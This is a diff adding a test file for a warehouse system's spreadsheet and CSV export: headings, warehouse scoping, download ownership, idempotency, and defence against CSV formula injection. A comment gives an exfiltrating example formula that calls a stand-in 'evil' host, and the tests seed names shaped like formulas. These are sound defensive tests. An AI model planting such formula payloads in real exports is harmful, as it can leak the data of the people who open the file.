@@ -1,0 +1,140 @@
+// Any list as a workbook or as CSV: the same rows, the same scope and masks, and nothing in it that a program would run.
+import { sql } from 'drizzle-orm'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { container, containerType } from '#shared/contracts/base/container.ts'
+import { location } from '#shared/contracts/base/location.ts'
+import { zone } from '#shared/contracts/base/zone.ts'
+import type { Call, CallResult } from '#shared/contracts/call.ts'
+import type { Envelope } from '#shared/envelope.ts'
+import { download, sheetOf, TEST_PACE, untilEnded } from '#tests/support/tasks.ts'
+import { BACKENDS, startWms, type TestWms } from '#tests/support/wms.ts'
+
+let commands = 0
+const nextOpId = () => `export-operation-${++commands}`
+
+describe.each(BACKENDS)('on %s', (backend) => {
+  let wms: TestWms
+  let admin: string
+  let clerk: string
+
+  beforeAll(async () => {
+    wms = await startWms({ backend, tasks: TEST_PACE })
+    admin = await wms.signIn('admin')
+    clerk = await wms.signIn('clerk')
+  })
+  afterAll(() => wms.close())
+
+  async function exported({ path }: Call, filters: Record<string, unknown>, token = clerk) {
+    const body = { ...filters, opId: nextOpId() }
+    const answered = await wms.send({ method: 'POST', path, body, token })
+    const envelope = answered.envelope as Envelope<CallResult<typeof zone.export>>
+    expect(envelope.message).toBe('success')
+    const task = await untilEnded(wms, envelope.data.id, token)
+    expect(task).toMatchObject({ state: '可下载', error: null })
+    return { task, answer: await download(wms, task.fileName, token) }
+  }
+
+  test('has Chinese headings, names beside codes, numbers as numbers, and the list’s filters and order', async () => {
+    const { task, answer } = await exported(zone.export, { warehouse: 'SHQP', sort: '-seq' })
+    expect(task.fileName).toMatch(/^库区-\d{8}-\d{6}\.xlsx$/)
+    expect(answer.headers['content-type']).toBe(
+      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+    )
+    const [headings, first, ...rest] = await sheetOf(answer.rawPayload)
+    expect(headings).toEqual([
+      ...['编号', '仓库', '仓库名称', '库区编码', '库区名称', '用途', '顺序', '状态', '更新时间'],
+    ])
+    expect(first?.slice(1, 6)).toEqual(['SHQP', '上海青浦仓', 'FH', '发货暂存区', '发货暂存'])
+    expect(first?.[0]).toBeTypeOf('number')
+    expect(first?.[8]).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/)
+    expect(rest).toHaveLength(4)
+  })
+
+  test('is CSV that spreadsheet programs read as UTF-8', async () => {
+    const { answer } = await exported(zone.export, { warehouse: 'GZBY', format: 'csv' })
+    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8')
+    const lines = answer.payload.split('\r\n')
+    expect(lines[0]).toBe('\ufeff编号,仓库,仓库名称,库区编码,库区名称,用途,顺序,状态,更新时间')
+    expect(lines).toHaveLength(7)
+  })
+
+  test('of nothing has headings alone', async () => {
+    const { task, answer } = await exported(zone.export, { code: 'NOPE' })
+    expect(task).toMatchObject({ result: '已导出0行', done: 1, total: 1 })
+    expect(await sheetOf(answer.rawPayload)).toHaveLength(1)
+  })
+
+  test('holds nothing outside the caller’s warehouses, asked for by name or not', async () => {
+    const { answer } = await exported(location.export, { format: 'csv' })
+    expect(answer.payload).toContain('SHQP')
+    expect(answer.payload).not.toContain('CDSL')
+    const third = await exported(zone.export, { warehouse: 'CDSL', format: 'csv' })
+    expect(third.answer.payload.trim().split('\r\n')).toHaveLength(1)
+    const all = await exported(zone.export, { warehouse: 'CDSL', format: 'csv' }, admin)
+    expect(all.answer.payload).toContain('CDSL')
+  })
+
+  test('is its user’s alone', async () => {
+    const { task } = await exported(zone.export, {})
+    expect((await download(wms, task.fileName, admin)).statusCode).toBe(404)
+  })
+
+  test('sent twice under one id is made once', async () => {
+    const body = { opId: nextOpId() }
+    const [first, second] = [
+      await wms.call(zone.export, { body }, clerk),
+      await wms.call(zone.export, { body }, clerk),
+    ]
+    expect(second.envelope.data).toEqual(first.envelope.data)
+  })
+
+  test.each([
+    [{ format: 'pdf' }, '请选择导出格式'],
+    [{ sort: 'nothing' }, '不能按此字段排序'],
+    [{ name: 7 }, '库区名称须为文字'],
+    [{ opId: undefined }, '缺少操作编号'],
+  ])('is refused for %j', async (wrong, message) => {
+    const body = { opId: nextOpId(), ...wrong }
+    const { envelope } = await wms.send({ method: 'POST', path: zone.export.path, body, token: clerk })
+    expect(envelope).toMatchObject({ code: 400, message })
+  })
+
+  /**
+   * Formula injection (CSV injection): somebody names a record `=HYPERLINK("http://evil?"&A1)`. A colleague opens the
+   * export, and their spreadsheet program runs it, with their files within reach.
+   */
+  describe('a name that is a formula', () => {
+    const names = ['=1+1', '+1', '-1+1', '@SUM(A1)', '\tcmd', '<b>&"quoted"', '_x000D_', '甲,乙']
+    const codes = names.map((_, index) => `EVIL${index}`)
+
+    beforeAll(async () => {
+      for (const [index, name] of names.entries()) {
+        await wms.database.orm.execute(sql`insert into container_types
+          (code, name, category, slots, reusable, tare_weight) values
+          (${codes[index]}, ${name}, '托盘', 1, true, -12.5)`)
+      }
+    })
+
+    test('is text in a workbook, and comes back as it was', async () => {
+      const { answer } = await exported(containerType.export, { code: codes.join(',') })
+      const [, ...rows] = await sheetOf(answer.rawPayload)
+      // The library that reads it trims.
+      expect(rows.map((row) => row[1])).toEqual(names.map((name) => name.trim()))
+      expect(rows[0]?.[6]).toBe(-12.5)
+    })
+
+    test('is text in CSV, where a negative number stays a number', async () => {
+      const { answer } = await exported(containerType.export, { code: codes.join(','), format: 'csv' })
+      const lines = answer.payload.split('\r\n').slice(1, -1)
+      expect(lines.map((line) => line.slice(6, line.indexOf(',托盘')))).toEqual([
+        ...["'=1+1", "'+1", "'-1+1", "'@SUM(A1)", "'\tcmd", '"<b>&""quoted"""', '_x000D_', '"甲,乙"'],
+      ])
+      expect(lines[0]).toContain(',-12.5,')
+    })
+  })
+
+  test('of documents works the same', async () => {
+    const { task } = await exported(container.export, { state: '空闲' })
+    expect(task.result).toMatch(/^已导出\d+行$/)
+  })
+})
